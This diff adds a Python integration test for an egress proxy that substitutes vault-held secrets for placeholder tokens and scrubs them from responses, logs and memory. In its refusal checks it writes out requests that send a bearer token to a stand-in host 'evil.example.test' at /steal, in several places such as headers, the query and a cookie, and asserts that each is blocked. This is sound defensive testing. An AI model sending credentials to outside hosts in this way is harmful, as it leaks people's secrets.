@@ -1,0 +1,604 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Secrets in the place of placeholders: the real coffer-egress, real clients and servers that check the credential, and a
+stand-in for the vault that tells what it was asked for. What is refused or taken out has a positive control beside it."""
+
+import base64
+import gzip
+import hashlib
+import json
+import os
+import random
+import ssl
+import subprocess
+import sys
+import tempfile
+import threading
+import urllib.parse
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
+
+import egressrig  # noqa: E402
+import httptest as ht  # noqa: E402
+from coffertest import Tap  # noqa: E402
+from egressrig import CTL_NEW_VAULT, CTL_OK, PATIENCE, FakeVault, Rig, grants, wait_for  # noqa: E402
+from memsearch import has_any, search  # noqa: E402
+
+egressrig.enter()
+tap = Tap()
+TMP = tempfile.TemporaryDirectory(prefix="inject-")
+D = TMP.name
+CA = ht.Authority(D)
+TRUST = os.path.join(D, "inside.pem")
+
+LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+
+
+def word(n):
+    return "".join(random.choice(LETTERS) for _ in range(n))
+
+
+PH = "ghp_" + word(36)
+REAL = "ghp_" + word(30) + "/+\"x&y"
+BOT_PH = "123456789:" + word(35)
+BOT = "987654321:" + word(35)
+CONTROL = "ctl_" + word(36)  # nobody's secret: it comes back as it is
+assert len(PH) == len(REAL)
+
+POLICY = """
+version: 1
+egress:
+  allow:
+    - {domain: api.example.test, port: [443, 80], http: [{allow: "* /**"}]}
+    - {domain: h2.example.test, port: 443, http: [{allow: "* /**"}]}
+    - {domain: bot.example.test, port: 443, http: [{allow: "* /bot*/**"}]}
+    - {domain: evil.example.test, port: 443, http: [{allow: "* /**"}]}
+    - {domain: expired.example.test, port: 443, http: [{allow: "* /**"}]}
+    - {domain: wrong.example.test, port: 443, http: [{allow: "* /**"}]}
+    - {domain: only.example.test, port: 443, http: [{allow: "* /**"}], credentials: only}
+    - {domain: rule.example.test, port: 443, secret: other}
+    - {domain: peek.example.test, port: 443}
+"""
+SECRET = (f"github 7 {PH}|api.example.test/v1 bearer|api.example.test/v1 basic|api.example.test/q query:key|"
+          "api.example.test/c cookie:sid|api.example.test/h header:x-api-key|api.example.test/body body|"
+          "h2.example.test bearer|h2.example.test query:key|expired.example.test bearer|wrong.example.test bearer|"
+          "only.example.test bearer|only.example.test basic|rule.example.test bearer|peek.example.test bearer")
+BOT_SECRET = f"bot 9 {BOT_PH}|bot.example.test path"
+
+
+def run(*args, **kw):
+    env = {"PATH": os.environ["PATH"], "HOME": D, "SSL_CERT_FILE": TRUST, "CURL_CA_BUNDLE": TRUST}
+    return subprocess.run(args, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=PATIENCE * 2, check=False, **kw)
+
+
+def curl(*args, stdin=os.devnull):
+    with open(stdin, "rb") as f:
+        return run("curl", "-sS", "--max-time", str(int(PATIENCE)), "-w", "\n%{http_code} %{http_version}", *args, stdin=f)
+
+
+def split(r):
+    """(status, version, body) of curl()."""
+    body, _, tail = r.stdout.rpartition(b"\n")
+    code, version = tail.decode().split()
+    return int(code), version, body
+
+
+class Client:
+    """One connection that says exactly what it is told."""
+
+    def __init__(self, rig, host, port=443):
+        s = rig.connect(rig.lookup(host), port)
+        s.settimeout(PATIENCE)
+        if port == 443:
+            ctx = ssl.create_default_context(cafile=TRUST)
+            ctx.set_alpn_protocols(["http/1.1"])
+            s = ctx.wrap_socket(s, server_hostname=host)
+        self.s, self.f = s, s.makefile("rb")
+
+    def ask(self, text):
+        self.s.sendall(text.replace("\n", "\r\n").encode())
+        return self
+
+    def head(self):
+        out = b""
+        while not out.endswith(b"\r\n\r\n"):
+            line = self.f.readline()
+            if not line:
+                break
+            out += line
+        return out.decode("latin-1")
+
+    def answer(self):
+        head = self.head()
+        n = next((int(x.split(":")[1]) for x in head.split("\r\n") if x.lower().startswith("content-length:")), 0)
+        return int(head.split(" ")[1]) if head else 0, head, self.f.read(n)
+
+    def chunks(self):
+        """The next chunk of an answer without a length; b"" at its end."""
+        n = int(self.f.readline(), 16)
+        data = self.f.read(n)
+        self.f.readline()
+        return data
+
+
+def token_of(r):
+    auth = r.get("authorization") or ""
+    return auth.split(" ", 1)[1] if " " in auth else ""
+
+
+def mirror(c, r):
+    """What the server got, in every encoding that it can think of; the control string beside it."""
+    t = token_of(r)
+    raw = t.encode()
+    parts = [t, json.dumps({"t": t}), urllib.parse.quote(t, safe=""), raw.hex(), raw.hex().upper()]
+    parts += [base64.b64encode(b"." * i + raw + b"..").decode() for i in range(3)]
+    parts += [base64.urlsafe_b64encode(b"." * i + raw + b"..").decode() for i in range(3)]
+    body = ("\n".join(parts) + "\n" + CONTROL + "\n" + base64.b64encode(CONTROL.encode()).decode()).encode()
+    ht.reply(c, body, fields=[("X-Token", t), ("Location", "/next?t=" + urllib.parse.quote(t, safe="")), ("X-Control", CONTROL),
+                              ("Set-Cookie", f"a={base64.b64encode(raw).decode()}; Path=/")])
+
+
+def trickle(c, r):
+    """Chunk by chunk, a byte at a time, and in a trailer."""
+    t = token_of(r)
+    c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n\r\n")
+    for ch in f"<{t}|{CONTROL}>":
+        c.sendall(b"1\r\n" + ch.encode() + b"\r\n")
+    c.sendall(b"0\r\nx-t: " + t.encode() + b"\r\nx-c: " + CONTROL.encode() + b"\r\n\r\n")
+
+
+def events(c, r):
+    """An event with the token now, another when the test says go."""
+    t = token_of(r)
+    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
+    for i, data in enumerate((f"data: {t}\n\n", f"data: {CONTROL}\n\n")):
+        if i:
+            r.origin.go.wait(60)
+        c.sendall(b"%x\r\n%s\r\n" % (len(data), data.encode()))
+    c.sendall(b"0\r\n\r\n")
+
+
+def large(c, r):
+    t = token_of(r).encode()
+    body = b"".join(os.urandom(random.randrange(3000)) + t + b"|" + CONTROL.encode() for _ in range(300))
+    r.origin.large = body
+    ht.reply(c, body)
+
+
+def packed(c, r):
+    body = gzip.compress(token_of(r).encode())
+    ht.reply(c, body, fields=[("Content-Encoding", "gzip")])
+
+
+def bare(status, fields=()):
+    def handler(c, r):
+        head = [f"HTTP/1.1 {status}", f"X-Token: {token_of(r)}", *fields]
+        c.sendall("\r\n".join(head).encode() + b"\r\n\r\n")
+    return handler
+
+
+def once(c, r):
+    """An answer, and then the connection is gone: the next request on it has to go elsewhere."""
+    ht.reply(c, token_of(r).encode())
+    wait = r.origin.once
+    if not wait.is_set():
+        wait.set()
+        return False
+    return True
+
+
+def body_back(c, r):
+    ht.reply(c, r.body, fields=[("Content-Type", r.get("content-type") or "text/plain")])
+
+
+def socket_echo(c, r):
+    """A websocket that says the token first, in a frame."""
+    key = (r.get("sec-websocket-key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
+    accept = base64.b64encode(hashlib.sha1(key).digest()).decode()
+    c.sendall(f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+              f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode())
+    c.sendall(ht.ws_frame(token_of(r).encode(), mask=False))
+    c.sendall(ht.ws_frame((CONTROL + "ghp").encode(), mask=False))  # ends as the token begins, and nothing follows
+    ht.ws_read(r.f)
+    return False
+
+
+HANDLERS = {"/v1/mirror": mirror, "/v1/trickle": trickle, "/v1/events": events, "/v1/large": large, "/v1/gzip": packed,
+            "/v1/304": bare("304 Not Modified", ["ETag: x"]), "/v1/204": bare("204 No Content"), "/v1/once": once,
+            "/body/x": body_back, "/v1/ws": socket_echo}
+
+
+def bearer(token=PH):
+    return "-H", f"Authorization: Bearer {token}"
+
+
+def rendered(rig, api):
+    """Each place, and what the server gets."""
+    code, version, _ = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/x"))
+    got = api.last("/v1/x")
+    tap.ok(code == 200 and version == "1.1" and got.get("authorization") == f"Bearer {REAL}", "a bearer token", got.head)
+    tap.ok(got.get("accept-encoding") == "identity" and not got.get("range"), "whole answers, unencoded, are asked for", got.head)
+    curl("--http1.1", *bearer(), "-H", "Range: bytes=0-9", "-H", "If-Range: x", "--compressed",
+         "https://api.example.test/v1/range")
+    got = api.last("/v1/range")
+    tap.ok(not got.get("range") and not got.get("if-range") and got.get("accept-encoding") == "identity",
+           "whatever the client asks for", got.head)
+    curl("--http1.1", "-H", "Range: bytes=0-9", "--compressed", "https://api.example.test/v1/plain")
+    got = api.last("/v1/plain")
+    tap.ok(got.get("range") and "gzip" in got.get("accept-encoding"), "(and nothing of that without a secret)", got.head)
+    code, version, _ = split(curl("--http2", *bearer(), "https://api.example.test/v1/from-h2"))
+    tap.ok(code == 200 and version == "2" and token_of(api.last("/v1/from-h2")) == REAL, "from HTTP/2 to HTTP/1.1")
+    curl("-u", f"someone:{PH}", "https://api.example.test/v1/basic")
+    pair = base64.b64decode(token_of(api.last("/v1/basic"))).decode()
+    tap.eq(pair, f"someone:{REAL}", "a password inside Basic")
+    curl(f"https://api.example.test/q?a=1&key={PH}&b=2")
+    want = f"/q?a=1&key={urllib.parse.quote(REAL, safe='')}&b=2"
+    tap.ok(api.last(want), "a query parameter, percent-encoded", [r.target for r in api.requests[-1:]])
+    curl("-b", f"a=b; sid={PH}", "https://api.example.test/c")
+    got = api.last("/c")
+    tap.ok(got and got.get("cookie") == f"a=b; sid={REAL}", "a cookie", got and got.head)
+    curl("-H", f"X-Api-Key: {PH}", "https://api.example.test/h")
+    tap.eq(api.last("/h").get("x-api-key"), REAL, "a header")
+    bot = list(rig.bot.requests)
+    code, _, _ = split(curl(f"https://bot.example.test/bot{BOT_PH}/getMe"))
+    new = rig.bot.requests[len(bot):]
+    tap.ok(code == 200 and len(new) == 1 and new[0].target == f"/bot{urllib.parse.quote(BOT, safe='')}/getMe",
+           "a segment of the path, whose rule sees one segment", [r.target for r in new])
+
+
+def bodies(api):
+    for what, ctype, sent, want in (
+            ("JSON", "application/json", json.dumps({"k": PH}), json.dumps({"k": REAL})),
+            ("a form", "application/x-www-form-urlencoded", f"a=1&k={PH}", f"a=1&k={urllib.parse.quote(REAL, safe='')}"),
+            ("text", "text/plain", f"<{PH}>", f"<{REAL}>")):
+        for version in ("--http1.1", "--http2"):
+            code, _, _ = split(curl(version, "-H", f"Content-Type: {ctype}", "-d", sent, "https://api.example.test/body/x"))
+            got = api.last("/body/x")
+            tap.ok(code == 200 and got.body.decode() == want and got.get("content-length") == str(len(want)),
+                   f"{what} in a body, its length right ({version})", got.body)
+    code, _, body = split(curl("--http1.1", "-H", "Transfer-Encoding: chunked", "-H", "Content-Type: application/json", "-d",
+                               json.dumps({"k": PH, "c": CONTROL}), "https://api.example.test/body/x"))
+    tap.ok(code == 200 and json.loads(api.last("/body/x").body) == {"k": REAL, "c": CONTROL} and
+           json.loads(body) == {"k": "*" * len(json.dumps(REAL)[1:-1]), "c": CONTROL},
+           "one that comes in chunks, and back without the secret", body)
+    big = os.path.join(D, "big")
+    with open(big, "wb") as f:
+        f.write(b"x" * 1500000 + PH.encode())
+    code, _, _ = split(curl("--http1.1", "-H", "Expect:", "--data-binary", f"@{big}", "https://api.example.test/body/x"))
+    got = api.last("/body/x")
+    tap.ok(code == 200 and got.body.endswith(PH.encode()), "one that is too long to be held goes as it is")
+    for version in ("--http1.1", "--http2"):
+        code, _, _ = split(curl(version, "-X", "POST", "-H", "Expect:", "-T", "-", "https://api.example.test/body/x", stdin=big))
+        got = api.last("/body/x")
+        tap.ok(code == 200 and len(got.body) == 1500000 + len(PH) and got.body.endswith(PH.encode()),
+               f"also when its length was not known ({version})", len(got.body))
+    code, _, _ = split(curl("--http1.1", "-H", "Expect: 100-continue", "-H", "Content-Type: application/json", "-d",
+                            json.dumps({"k": PH}), "https://api.example.test/body/x"))
+    got = api.last("/body/x")
+    tap.ok(code == 200 and json.loads(got.body) == {"k": REAL} and not got.get("expect"), "a client that waits for leave", got.head)
+    curl("-d", PH, "https://api.example.test/v1/nobody")
+    tap.eq(api.last("/v1/nobody").body.decode(), PH, "where none is bound to bodies they are not touched")
+
+
+def refused(rig, api):
+    """Anywhere else: a 403 that says so, an alert, and the connection goes on."""
+    evil = Client(rig, "evil.example.test")
+    code, _, body = evil.ask(f"GET /steal HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n").answer()
+    said = json.loads(body)
+    tap.ok(code == 403 and "'github'" in said["reason"] and "api.example.test" in said["reason"], "another host: 403 that says why",
+           body)
+    tap.ok(not has_any(body, REAL), "without the secret")
+    code, _, _ = evil.ask("GET /fine HTTP/1.1\nHost: evil.example.test\n\n").answer()
+    tap.ok(code == 200 and rig.evil.last("/fine") and not rig.evil.last("/steal"), "later requests of the connection are unharmed")
+    alert = rig.events("alert", kind="secret", name="evil.example.test")[0]
+    tap.ok("github" in alert["text"], "an alert in the journal", alert)
+    asked = len(rig.vault.requests)
+    pair = base64.b64encode(f"u:{PH}".encode()).decode()
+    for what, text in (("inside Basic", f"GET /s1 HTTP/1.1\nHost: evil.example.test\nAuthorization: Basic {pair}\n\n"),
+                       ("in the query", f"GET /s2?x={PH} HTTP/1.1\nHost: evil.example.test\n\n"),
+                       ("in the path", f"GET /s3/{PH} HTTP/1.1\nHost: evil.example.test\n\n"),
+                       ("in a cookie", f"GET /s4 HTTP/1.1\nHost: evil.example.test\nCookie: a={PH}\n\n"),
+                       ("in any header", f"GET /s5 HTTP/1.1\nHost: evil.example.test\nX-Y: a{PH}b\n\n")):
+        code, _, _ = evil.ask(text).answer()
+        tap.eq(code, 403, f"also {what}")
+    tap.eq(len(rig.evil.requests), 1, "none of them reached the server")
+    for what, args in (("another path", (*bearer(), "https://api.example.test/v2/x")),
+                       ("a path that only begins so", (*bearer(), "https://api.example.test/v10")),
+                       ("another place", ("-H", f"X-Api-Key: {PH}", "https://api.example.test/v1/x")),
+                       ("plain HTTP", (*bearer(), "http://api.example.test/v1/x")),
+                       ("HTTP/2 to another host", ("--http2", *bearer(), "https://evil.example.test/h2")),
+                       ("a rule that names another secret", (*bearer(), "https://rule.example.test/"))):
+        code, _, body = split(curl(*args))
+        tap.ok(code == 403, f"{what}: 403", body)
+    tap.eq(len(rig.vault.requests), asked, "and for none of them the vault was asked")
+    two = Client(rig, "api.example.test")
+    two.ask(f"GET /v1/p1 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
+            f"GET /v2/p2 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
+            f"GET /v1/p3 HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n")
+    codes = [two.answer()[0] for _ in range(3)]
+    tap.eq(codes, [200, 403, 421], "pipelined requests are decided one by one")
+    tap.ok(token_of(api.last("/v1/p1")) == REAL and not api.last("/v2/p2"), "and only the first was rendered")
+
+
+def second_paths(rig, api):
+    """A request that acts on two paths: the secret has to be bound to both."""
+    c = Client(rig, "api.example.test")
+
+    def copy(path, field, value, token=PH):
+        asked = len(rig.vault.requests)
+        code, _, body = c.ask(f"COPY {path} HTTP/1.1\nHost: api.example.test\n{field}: {value}\nAuthorization: Bearer {token}\n\n"
+                              ).answer()
+        return code, len(rig.vault.requests) - asked, body
+
+    for i, (field, inside, outside) in enumerate((
+            ("Destination", "https://api.example.test/v1/b", "https://api.example.test/v2/b"),
+            ("Destination", "/v1", "/v10"), ("X-Amz-Copy-Source", "v1/b", "body/b"), ("x-ms-rename-source", "/v1/b", "/"))):
+        path = f"/v1/copy{i}"
+        code, asked, body = copy(path + "in", field, inside)
+        tap.ok(code == 200 and asked == 1 and token_of(api.last(path + "in")) == REAL, f"{field}: {inside}, which it is bound to", body)
+        code, asked, body = copy(path + "out", field, outside)
+        tap.ok(code == 403 and asked == 0 and b"second path" in body and not api.last(path + "out"), f"{field}: {outside}: 403", body)
+        code, asked, body = copy(path + "own", field, outside, "own")
+        tap.ok(code == 200 and asked == 0 and api.last(path + "own"), "(which the policy allows without the secret)", body)
+
+
+def new_policy(rig, api):
+    """What was planned by the old one and not sent is not sent by the new one."""
+    text = f"GET /v1/changed HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
+    rig.vault.hold = True
+    c = Client(rig, "api.example.test")
+    c.ask(text)
+    wait_for("the question", lambda: rig.vault.held)
+    rig.policy(POLICY + "    - {domain: late.example.test, port: 443}\n")
+    code, _, body = c.answer()
+    tap.ok(code == 503 and b"policy has changed" in body, "a policy that changes while the vault is asked: 503, ask again", body)
+    rig.vault.hold = False
+    rig.vault.sock.send(rig.vault.held.pop())
+    code, _, body = c.ask("GET /v1/unchanged HTTP/1.1\nHost: api.example.test\n\n").answer()
+    tap.ok(code == 200 and not api.last("/v1/changed"), "nothing was sent, the late answer harms nobody", body)
+    code, _, body = c.ask(text).answer()
+    tap.ok(code == 200 and token_of(api.last("/v1/changed")) == REAL, "asked again, it goes", body)
+    sent = json.dumps({"k": PH})
+    head = f"POST /body/x HTTP/1.1\nHost: api.example.test\nExpect: 100-continue\nContent-Length: {len(sent)}\n\n"
+    before = len(api.requests)
+    tap.like(c.ask(head).head(), " 100 ", "a body that is waited for")
+    rig.policy(POLICY)
+    code, _, body = c.answer()
+    tap.ok(code == 503 and b"policy has changed" in body and len(api.requests) == before, "also then", body)
+    api.go.clear()
+    c = Client(rig, "api.example.test")
+    c.ask(f"GET /v1/events HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n").head()
+    first = b""
+    while not first.endswith(b"\n\n"):
+        first += c.chunks()
+    rig.policy(POLICY)
+    api.go.set()
+    rest = b""
+    while not rest.endswith(b"\n\n"):
+        rest += c.chunks()
+    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "(an answer that is on its way goes on)")
+    c.s.close()
+
+
+def unverified(rig):
+    for host in ("expired.example.test", "wrong.example.test"):
+        asked = len(rig.vault.requests)
+        code, _, body = split(curl(*bearer(), f"https://{host}/x"))
+        tap.ok(code == 502 and b"certificate" in body and len(rig.vault.requests) == asked,
+               f"{host}: a server that is not verified gets nothing, and the vault is not asked", body)
+
+
+def only(rig):
+    def ask(*args):
+        return split(curl(*args, "https://only.example.test/x"))[0]
+    tap.eq(ask(*bearer()), 200, "credentials: only lets the gateway's through")
+    tap.eq(token_of(rig.only.last("/x")), REAL, "rendered")
+    tap.eq(ask("-u", f"git:{PH}"), 200, "as a password too")
+    tap.eq(ask("-H", "Authorization: Bearer ghp_somebodyelse"), 403, "but nobody else's")
+    tap.eq(ask(*bearer(), "-H", "X-Api-Key: mine"), 403, "nor one beside it")
+    tap.eq(ask("-u", f"ghp_{word(36)}:{PH}"), 403, "nor one in front of it")
+    tap.eq(ask(), 200, "(and requests without any)")
+
+
+def clean(data, what, expect=CONTROL):
+    left = has_any(data, REAL)
+    tap.ok(not left, f"{what}: nothing of the secret comes back", left)
+    if expect:
+        tap.ok(expect.encode() in data, f"{what}: what is not the secret does", data[:300])
+
+
+def scrubbed(rig, api):
+    for version in ("--http1.1", "--http2"):
+        r = curl(version, "-i", *bearer(), "https://api.example.test/v1/mirror")
+        clean(r.stdout, f"eleven encodings and the head ({version})")
+        tap.ok(r.stdout.count(PH.encode()) >= 2 and base64.b64encode(CONTROL.encode()) in r.stdout,
+               f"the placeholder stands where the secret stood ({version})", r.stdout)
+        r = curl(version, *bearer(), "https://api.example.test/v1/trickle")
+        clean(r.stdout, f"a byte at a time ({version})")
+        tap.ok(f"<{PH}|{CONTROL}>".encode() in r.stdout, f"and otherwise as it was ({version})", r.stdout)
+        r = curl(version, *bearer(), "https://api.example.test/v1/large")
+        clean(r.stdout, f"300 times in half a megabyte ({version})", None)
+        tap.ok(split(r)[2] == api.large.replace(REAL.encode(), PH.encode()), f"and not another byte is changed ({version})")
+        for path in ("/v1/304", "/v1/204"):
+            r = curl(version, "-i", *bearer(), f"https://api.example.test{path}")
+            tap.ok(path[-3:].encode() in r.stdout and PH.encode() in r.stdout, f"{path} ({version})", r.stdout)
+            clean(r.stdout, f"{path} ({version})", None)
+        r = curl(version, "-I", *bearer(), "https://api.example.test/v1/x")
+        tap.eq(split(r)[0], 200, f"HEAD ({version})")
+        code, _, body = split(curl(version, *bearer(), "https://api.example.test/v1/gzip"))
+        tap.ok(code == 502 and b"encoded" in body, f"what is encoded all the same is refused ({version})", body)
+        code, _, body = split(curl(version, *bearer("other"), "https://api.example.test/v1/gzip"))
+        tap.ok(code == 200 and gzip.decompress(body) == b"other", f"(but not without a secret) ({version})", body)
+
+
+def streaming(rig, api):
+    api.go.clear()
+    c = Client(rig, "api.example.test")
+    c.ask(f"GET /v1/events HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n").head()
+    first = b""
+    while not first.endswith(b"\n\n"):
+        first += c.chunks()
+    tap.eq(first, f"data: {PH}\n\n".encode(), "an event is passed on while the answer goes on, without the secret")
+    api.go.set()
+    rest = b""
+    while True:
+        piece = c.chunks()
+        if not piece:
+            break
+        rest += piece
+    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "and the next")
+    c.s.close()
+
+
+def trailers(rig):
+    c = Client(rig, "api.example.test")
+    c.ask(f"GET /v1/trickle HTTP/1.1\nHost: api.example.test\nTE: trailers\nAuthorization: Bearer {PH}\n\n").head()
+    while int(c.f.readline(), 16) > 0:
+        c.f.readline()
+    fields = [c.f.readline().decode().strip() for _ in range(2)]
+    tap.eq(sorted(fields), [f"x-c: {CONTROL}", f"x-t: {PH}"], "trailers")
+    c.s.close()
+
+
+def upgrade(rig, api):
+    c = Client(rig, "api.example.test")
+    head = c.ask(f"GET /v1/ws HTTP/1.1\nHost: api.example.test\nUpgrade: websocket\nConnection: Upgrade\n"
+                 f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Version: 13\n"
+                 f"Sec-WebSocket-Extensions: permessage-deflate\nAuthorization: Bearer {PH}\n\n").head()
+    got = api.last("/v1/ws")
+    tap.ok(" 101 " in head and token_of(got) == REAL and not got.get("sec-websocket-extensions"),
+           "a websocket's handshake, without compression", head)
+    tap.eq([ht.ws_read(c.f), ht.ws_read(c.f)], [PH, CONTROL + "ghp"], "and what its server says of the secret")
+    c.s.sendall(ht.ws_frame(b"bye"))
+    c.s.close()
+    code, _, _ = Client(rig, "evil.example.test").ask(
+        f"GET /ws HTTP/1.1\nHost: evil.example.test\nUpgrade: websocket\nConnection: Upgrade\n"
+        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nAuthorization: Bearer {PH}\n\n").answer()
+    tap.eq(code, 403, "to another host: 403")
+
+
+def http2(rig):
+    code, version, body = split(curl("--http2", *bearer(), f"https://h2.example.test/x?key={PH}"))
+    tap.ok(code == 200 and version == "2", "HTTP/2 on both sides", body)
+    clean(body, "HTTP/2 on both sides", None)
+    headers = json.loads(body)["headers"]
+    hidden = "*" * len(json.dumps(REAL)[1:-1])  # another length than the placeholder's, for it has a quote
+    tap.ok(headers["authorization"] == f"Bearer {hidden}" and headers[":path"].startswith("/x?key=*"), "where the server had both",
+           headers)
+    procs = [subprocess.Popen(["curl", "-sS", "--http2", "--cacert", TRUST, "-Z", "--no-progress-meter", "--max-time", str(int(PATIENCE))] +
+                              list(bearer()) + [f"https://h2.example.test/p{i}" for i in range(20)],
+                              stdout=subprocess.PIPE) for _ in range(3)]
+    outs = [p.communicate(timeout=PATIENCE * 2)[0] for p in procs]
+    tap.ok(all(o.count(hidden.encode()) == 20 and not has_any(o, REAL) for o in outs), "60 of them at once", outs[0][:300])
+
+
+def again(rig, api):
+    """A connection that the server has ended meanwhile: another one, and the vault is asked again."""
+    api.once = threading.Event()
+    asked = len(rig.vault.requests)
+    for i in range(3):
+        code, _, body = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/once"))
+        tap.ok(code == 200 and body == PH.encode(), f"request {i} over connections that end", body)
+    mine = rig.vault.requests[asked:]
+    tap.ok(len(mine) >= 3 and set(mine) == {(7, "api.example.test", 443, "/v1/once")},
+           "the vault was asked for each, with host, port and path", mine)
+
+
+def without_vault(rig, api):
+    rig.vault.refuse = "it has expired"
+    code, _, body = split(curl(*bearer(), "https://api.example.test/v1/expired"))
+    tap.ok(code == 403 and b"it has expired" in body and not api.last("/v1/expired"), "a vault that refuses: 403, and why", body)
+    rig.vault.refuse = None
+    rig.vault.hold = True
+    c = Client(rig, "api.example.test")
+    c.ask(f"GET /v1/late HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n")
+    wait_for("the question", lambda: rig.vault.held)
+    rig.vault.close()
+    code, _, body = c.answer()
+    tap.ok(code == 503 and b"vault" in body and not api.last("/v1/late"), "a vault that dies meanwhile: 503, nothing is sent", body)
+    code, _, body = split(curl(*bearer(), "https://api.example.test/v1/gone"))
+    tap.ok(code == 503 and not api.last("/v1/gone"), "and after that", body)
+    code, _, _ = split(curl("https://api.example.test/v1/without"))
+    tap.ok(code == 200 and api.last("/v1/without"), "what needs no secret goes on")
+    new = FakeVault({17: REAL.encode(), 19: BOT.encode()})
+    fd = grants(SECRET.replace(" 7 ", " 17 "), BOT_SECRET.replace(" 9 ", " 19 "))
+    kind, _, text = rig.ask(CTL_NEW_VAULT, [fd, new.end.fileno()])
+    tap.eq(kind, CTL_OK, f"a new vault is taken {text}")
+    rig.vault = new
+    code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/new"))
+    tap.ok(code == 200 and token_of(api.last("/v1/new")) == REAL, "and asked, by its own handles, for the same placeholders")
+
+
+def hostile_vault(rig):
+    """Not that it would; but what it says is checked."""
+    for what, data in (("an answer nobody asked for", FakeVault.pack(32, 99, 0, b"x" * 20)), ("bytes", b"\xff" * 40), ("nothing", b"x")):
+        v = FakeVault({7: REAL.encode(), 9: BOT.encode()})
+        tap.eq(rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])[0], CTL_OK, "a vault")
+        v.end.close()
+        v.sock.send(data)
+        wait_for("the end of its channel", lambda: not v.is_alive())
+        tap.ok(True, f"{what}: its channel is ended")
+    v = FakeVault({7: REAL.encode(), 9: BOT.encode()})
+    rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])
+    rig.vault = v
+
+
+def left_behind(rig):
+    """Nothing in the journal, nothing in memory once requests are over; and the search can find something."""
+    with open(rig.journal_path, "rb") as f:
+        journal = f.read()
+    tap.ok(not has_any(journal, REAL) and not has_any(journal, BOT), "no secret in the journal")
+    uses = [e for e in rig.lines() if e["ev"] == "secret"]
+    tap.ok(uses and {u["secret"] for u in uses} == {"github", "bot"} and all(len(u["digest"]) == 16 for u in uses),
+           "each use is written down, by its name", uses[:2])
+    req = [e for e in rig.lines() if e["ev"] == "request" and e.get("secret") == "github"]
+    tap.ok(req, "and so in the request's own line")
+    wait_for("the last exchange", lambda: rig.stats()["inspect"]["requests_now"] == 0)
+    found = search(rig.pid, PH, "api.example.test", REAL, BOT)
+    tap.ok({PH, "api.example.test"} <= found, "(egress's memory can be searched)", found)
+    tap.ok(not found & {REAL, BOT}, "nothing of the secrets is left in egress's memory when it is idle", found)
+
+
+def main():
+    api = ht.Origin(CA.cert("api", "api.example.test"), HANDLERS)
+    clear = ht.Origin(None, {})
+    evil = ht.Origin(CA.cert("evil", "evil.example.test", "rule.example.test"))
+    bot = ht.Origin(CA.cert("bot", "bot.example.test"))
+    own = ht.Origin(CA.cert("only", "only.example.test"))
+    peek = ht.Origin(CA.cert("peek", "peek.example.test"))
+    expired = ht.Origin(CA.cert("expired", "expired.example.test", days=-1))
+    wrong = ht.Origin(CA.cert("wrong", "another.example.test"))
+    node = ht.node_h2(CA.cert("h2", "h2.example.test"))
+    vault = FakeVault({7: REAL.encode(), 9: BOT.encode()})
+    with Rig(POLICY, store=CA.pem, secrets=grants(SECRET, BOT_SECRET), vault=vault) as rig:
+        with open(TRUST, "w", encoding="ascii") as f:
+            f.write(rig.ca)
+        rig.evil, rig.bot, rig.only = evil, bot, own
+        for host, server in (("api", api), ("evil", evil), ("bot", bot), ("only", own), ("expired", expired), ("wrong", wrong),
+                             ("h2", node), ("rule", evil), ("peek", peek)):
+            rig.dial[f"{host}.example.test"] = server.addr
+        rig.dial[("api.example.test", 80)] = clear.addr
+        rendered(rig, api)
+        bodies(api)
+        refused(rig, api)
+        second_paths(rig, api)
+        new_policy(rig, api)
+        unverified(rig)
+        only(rig)
+        scrubbed(rig, api)
+        streaming(rig, api)
+        trailers(rig)
+        upgrade(rig, api)
+        http2(rig)
+        again(rig, api)
+        code, _, _ = split(curl(*bearer(), "https://peek.example.test/x"))
+        tap.ok(code == 200 and token_of(peek.last("/x")) == REAL, "a host that a secret is bound to is looked into")
+        left_behind(rig)
+        without_vault(rig, api)
+        hostile_vault(rig)
+        code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/last"))
+        tap.eq(code, 200, "all goes on")
+    node.close()
+    tap.done()
+
+
+main()
